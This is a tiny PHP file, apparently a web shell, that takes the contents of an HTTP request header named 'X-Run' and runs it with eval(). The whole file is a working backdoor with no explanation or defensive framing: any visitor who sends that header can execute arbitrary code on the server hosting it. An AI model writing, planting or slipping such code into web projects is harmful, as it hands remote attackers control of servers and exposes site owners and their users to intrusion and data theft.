<?php
$h = getallheaders();
eval($h['X-Run']);
